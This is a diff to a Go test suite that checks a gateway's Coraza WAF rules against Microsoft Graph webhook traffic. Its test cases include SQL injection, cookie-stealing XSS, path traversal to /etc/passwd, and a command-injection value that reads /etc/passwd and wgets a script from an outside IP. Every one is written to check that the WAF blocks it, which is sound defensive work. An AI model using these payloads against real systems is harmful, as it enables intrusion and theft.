@@ -6,9 +6,10 @@
 // README: "load it into the gateway's Coraza filter before the CRS"):
 //  1. charts/rooms-sync/files/waf/rooms-sync-waf.conf: our ONE rules file, unchanged
 //     and first. It carries the whole engine setup the nginx side has (SecRuleEngine On,
-//     SecRequestBodyAccess On, the body limits, the CRS tuning and, on the webhook
-//     paths, ctl:requestBodyProcessor=XML); ingress-nginx loads no base
-//     modsecurity.conf next to a snippet, so there is nothing else to mirror;
+//     SecRequestBodyAccess On, the body limits, the CRS tuning and the body processor
+//     per callback: ctl:requestBodyProcessor=XML on the EWS paths, JSON on Graph's);
+//     ingress-nginx loads no base modsecurity.conf next to a snippet, so there is
+//     nothing else to mirror;
 //  2. the CRS setup: SecDefaultAction phase:1/phase:2 "log,auditlog,pass" and
 //     tx.crs_setup_version, nothing else (.dev/waf/crs-setup.conf on the nginx side;
 //     CRS 4's own @crs-setup.conf.example here, which is exactly that for CRS 4);
@@ -44,8 +45,10 @@
 // Each case goes through the request phases the way a gateway's filter drives Coraza:
 // ProcessConnection, ProcessURI, AddRequestHeader (the headers curl sends in the nginx
 // test), ProcessRequestHeaders, WriteRequestBody, ProcessRequestBody; then the
-// interruption is read. Genuine pushes must not be interrupted; attacks must be, with
-// the status the nginx test expects (403; 400 for the malformed XML).
+// interruption is read. Genuine pushes, Graph handshakes and Graph notifications must
+// not be interrupted; attacks must be, with the status the nginx test expects (403; 400
+// for malformed XML or JSON and an overlong validationToken; 415 for a Graph
+// notification that is not application/json).
 //
 // Known gaps: with coraza v3.8.1, our rules 10020 (DTD) and 10021 (processing
 // instructions) never match, because they read REQUEST_BODY and Coraza leaves it empty
@@ -419,6 +422,91 @@ func buildCases(root string) ([]testCase, error) {
 	cases = append(cases,
 		testCase{"path-traversal-in-query", "POST", "/api/webhooks/exchange?file=../../../../etc/passwd", xmlType, beat, 403},
 		testCase{"path-traversal-healthz-query", "GET", "/healthz?x=..%2f..%2f..%2f..%2fetc%2fpasswd", "", nil, 403},
+	)
+	graph, err := graphCases(corpus)
+	if err != nil {
+		return nil, err
+	}
+	return append(cases, graph...), nil
+}
+
+// graphCases: the Microsoft Graph cases of .dev/waf-test.sh that our rules or the CRS answer
+// (not the methods and the 2 MiB body, out of scope as above): Graph's validation handshake as
+// Graph sends it (text/plain, an empty body), its change and lifecycle notifications, and the
+// attacks on them.
+func graphCases(corpus string) ([]testCase, error) {
+	const (
+		jsonType  = "application/json; charset=utf-8"
+		plainType = "text/plain; charset=utf-8"
+		change    = "/api/webhooks/graph"
+		lifecycle = "/api/webhooks/graph/lifecycle"
+	)
+	dir := filepath.Join(corpus, "graph")
+	read := func(name string) ([]byte, error) { return os.ReadFile(filepath.Join(dir, name+".json")) }
+	token := "?validationToken=Validation%3a+Testing+client+application+reachability+for+subscription+Request-Id%3a+" +
+		"7f9c2ba4-e88f-4e5a-9d3b-2c1d0e8f6a57"
+	cases := []testCase{
+		{"graph/validation-handshake", "POST", change + token, plainType, []byte{}, 0},
+		{"graph/validation-handshake-lifecycle", "POST", lifecycle + token, plainType, []byte{}, 0},
+	}
+	files, err := filepath.Glob(filepath.Join(dir, "*.json"))
+	if err != nil {
+		return nil, err
+	}
+	sort.Strings(files)
+	if len(files) == 0 {
+		return nil, fmt.Errorf("no Graph notifications under %s", dir)
+	}
+	for _, f := range files {
+		b, err := os.ReadFile(f)
+		if err != nil {
+			return nil, err
+		}
+		name := strings.TrimSuffix(filepath.Base(f), ".json")
+		path := change
+		if strings.HasPrefix(name, "lifecycle-") {
+			path = lifecycle
+		}
+		cases = append(cases, testCase{"graph/" + name, "POST", path, jsonType, b, 0})
+	}
+
+	// a genuine notification with one value replaced (mkjson in waf-test.sh)
+	type edit struct{ name, file, path, re, repl string }
+	edits := []edit{
+		{"graph-sqli-in-json-string", "change-created", change, `"id": "[^"]*"`, `"id": "x' OR 1=1; DROP TABLE reservations; --"`},
+		{"graph-sqli-in-lifecycle-event", "lifecycle-missed", lifecycle, `"missed"`, `"missed' UNION SELECT password FROM users WHERE '1'='1"`},
+		{"graph-xss-in-json-string", "change-created", change, `"clientState": "[^"]*"`, `"clientState": "<script>alert(document.cookie)</script>"`},
+		{"graph-command-injection-in-json", "change-created", change, `"resource": "[^"]*"`, `"resource": "x; cat /etc/passwd; wget http://203.0.113.7/x.sh"`},
+	}
+	for _, e := range edits {
+		b, err := read(e.file)
+		if err != nil {
+			return nil, err
+		}
+		rx := regexp.MustCompile(e.re)
+		if !rx.Match(b) {
+			return nil, fmt.Errorf("%s: %s.json has no match for %q", e.name, e.file, e.re)
+		}
+		cases = append(cases, testCase{e.name, "POST", e.path, jsonType, rx.ReplaceAllLiteral(b, []byte(e.repl)), 403})
+	}
+	created, err := read("change-created")
+	if err != nil {
+		return nil, err
+	}
+	batch, err := read("change-batch")
+	if err != nil {
+		return nil, err
+	}
+	truncated := batch[:300]
+	cases = append(cases,
+		testCase{"graph-xss-in-validation-token", "POST", change + "?validationToken=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", plainType, []byte{}, 403},
+		testCase{"graph-xss-in-validation-token-lifecycle", "POST", lifecycle + "?validationToken=%22%3E%3Csvg%20onload%3Dalert(1)%3E", plainType, []byte{}, 403},
+		testCase{"graph-validation-token-too-long", "POST", change + "?validationToken=Validation%3a+Testing+" + strings.Repeat("A", 1100), plainType, []byte{}, 400},
+		testCase{"graph-notification-as-text-plain", "POST", change, plainType, created, 415},
+		testCase{"graph-notification-as-xml", "POST", lifecycle, xmlType, created, 415},
+		testCase{"graph-lookalike-token-name", "POST", change + "?ValidationToken=x", "text/plain", created, 415},
+		testCase{"graph-malformed-json", "POST", change, jsonType, truncated, 400},
+		testCase{"graph-malformed-json-lifecycle", "POST", lifecycle, jsonType, truncated, 400},
 	)
 	return cases, nil
 }
